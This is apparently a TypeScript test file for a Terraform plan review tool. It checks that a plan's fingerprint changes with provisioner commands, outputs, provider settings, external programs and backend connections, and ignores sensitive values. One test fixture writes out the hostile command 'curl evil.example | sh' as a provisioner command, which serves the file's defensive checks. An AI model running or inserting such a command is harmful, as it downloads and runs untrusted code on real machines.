import { FINGERPRINT, planFingerprint, shortFingerprint } from "../../review/plan/fingerprint";
import { planResources } from "../../review/plan/plan-resources";
import { readPlan } from "../../review/plan/read-plan";
import { reviewOf, reviewOfAccounts } from "./given-reviews";
import type { Open } from "./stories/example";
import { recorded } from "./stories/recording";
import { STORIES } from "./stories/stories";

function of(plan: object): string {
  const read = readPlan(JSON.stringify(plan));
  return planFingerprint(read, planResources(read));
}

test("is another one for every story that does something else", () => {
  const names = Object.keys(STORIES).filter(
    (name) =>
      !["nothing-to-destroy", "only-one-target", "group-falls-to-own-default"].includes(name) &&
      !name.startsWith("account-"),
  );

  const fingerprints = new Set(names.map((name) => of(recorded(name).plan)));

  expect(fingerprints.size).toBe(names.length);
});

test("stays the same when only the time of planning and the version of Terraform differ", () => {
  const { plan } = recorded("approved-at-once");

  expect(of({ ...plan, timestamp: "2027-01-01T00:00:00Z", terraform_version: "1.12.0" })).toBe(of(plan));
});

test("is another one when a group takes its baseline from elsewhere, though its id is not known yet", () => {
  const { plan } = recorded("group-moved-to-new-baseline");
  const another = JSON.stringify(plan).replace(
    /("address":"aws_ssm_patch_group.ProdWeb".*?"references":\[)"aws_ssm_patch_baseline.Second.id","aws_ssm_patch_baseline.Second"/,
    '$1"aws_ssm_patch_baseline.Linux.id","aws_ssm_patch_baseline.Linux"',
  );

  expect(another).not.toBe(JSON.stringify(plan));
  expect(of(JSON.parse(another))).not.toBe(of(plan));
});

test("is another one for another value of what nobody knows what is planned for", () => {
  const named = (name: string) => {
    const plan: Open = structuredClone(recorded("approved-at-once").plan);
    const [{ change }] = plan.resource_changes;
    Object.assign(change, { actions: [], after: { ...change.after, name } });
    return of(plan);
  };

  expect(named("linux")).not.toBe(named("unix"));
});

test("takes no part of a sensitive value, and notices that one changes", () => {
  const { plan } = recorded("source-secret");
  const another = JSON.parse(JSON.stringify(plan).replaceAll("password=afterwards", "password=elsewhere"));
  const unchanged = JSON.parse(JSON.stringify(plan).replaceAll("password=afterwards", "password=before"));

  expect(of(another)).toBe(of(plan));
  expect(of(unchanged)).not.toBe(of(plan));
});

test("of several stacks is one, and that of a single stack its own", () => {
  const { fingerprint, stacks } = reviewOf("approved-at-once");

  expect(fingerprint).toBe(stacks[0]?.fingerprint);
  expect(reviewOfAccounts().fingerprint).toMatch(FINGERPRINT);
});

describe("holds what is applied beside the changes", () => {
  const { plan } = recorded("approved-at-once");
  type Configured = { root_module: { resources: object[] }; provider_config: Record<string, object> };
  const configuration = plan.configuration as Configured;
  const [first] = configuration.root_module.resources as [object];
  const withResource = (resource: object) => ({
    ...plan,
    configuration: { ...configuration, root_module: { ...configuration.root_module, resources: [resource] } },
  });
  const running = (command: string) =>
    withResource({
      ...first,
      provisioners: [{ type: "local-exec", expressions: { command: { constant_value: command } } }],
    });
  const output = (after: unknown, marks: object = {}) => ({
    ...plan,
    output_changes: { id: { actions: ["update"], before: "a", after, after_unknown: false, ...marks } },
  });
  const provider = (expressions: object) => ({
    ...plan,
    configuration: { ...configuration, provider_config: { aws: { name: "aws", expressions } } },
  });

  test.each<[string, object, object]>([
    ["a provisioner", withResource(first), running("true")],
    ["the command of a provisioner", running("true"), running("curl evil.example | sh")],
    ["a value of an output", output("b"), output("c")],
    [
      "the Region of a provider",
      provider({ region: { constant_value: "eu-central-1" } }),
      provider({ region: { constant_value: "us-east-1" } }),
    ],
    [
      "the role of a provider",
      provider({}),
      provider({ assume_role: [{ role_arn: { constant_value: "arn:aws:iam::1:role/a" } }] }),
    ],
    [
      "the program of a data source",
      withResource({
        address: "data.external.x",
        mode: "data",
        type: "external",
        expressions: { program: { constant_value: ["true"] } },
      }),
      withResource({
        address: "data.external.x",
        mode: "data",
        type: "external",
        expressions: { program: { constant_value: ["sh"] } },
      }),
    ],
  ])("%s", (_, one, other) => {
    expect(of(one)).not.toBe(of(other));
  });

  test.each<[string, object, object]>([
    ["the value of a sensitive output", output("b", { after_sensitive: true }), output("c", { after_sensitive: true })],
    [
      "the secret key of a provider",
      provider({ secret_key: { constant_value: "a" } }),
      provider({ secret_key: { constant_value: "b" } }),
    ],
  ])("but not %s", (_, one, other) => {
    expect(of(one)).toBe(of(other));
  });

  test("the stack's name, its backend and its connections, where the program tells them", () => {
    const read = readPlan(JSON.stringify(plan));
    const targets = [
      undefined,
      { name: "prod", backend: { s3: { bucket: "states", key: "prod" } }, connections: [] },
      { name: "test", backend: { s3: { bucket: "states", key: "prod" } }, connections: [] },
      { name: "prod", backend: { s3: { bucket: "others", key: "prod" } }, connections: [] },
      {
        name: "prod",
        backend: { s3: { bucket: "states", key: "prod" } },
        connections: [["a", { host: "evil.example" }]],
      },
    ];

    expect(new Set(targets.map((target) => planFingerprint(read, planResources(read), target))).size).toBe(5);
  });

  test("in 128 bits, of which 48 are shown", () => {
    expect(of(plan)).toMatch(FINGERPRINT);
    expect(shortFingerprint(of(plan))).toBe(of(plan).slice(0, 14));
  });
});
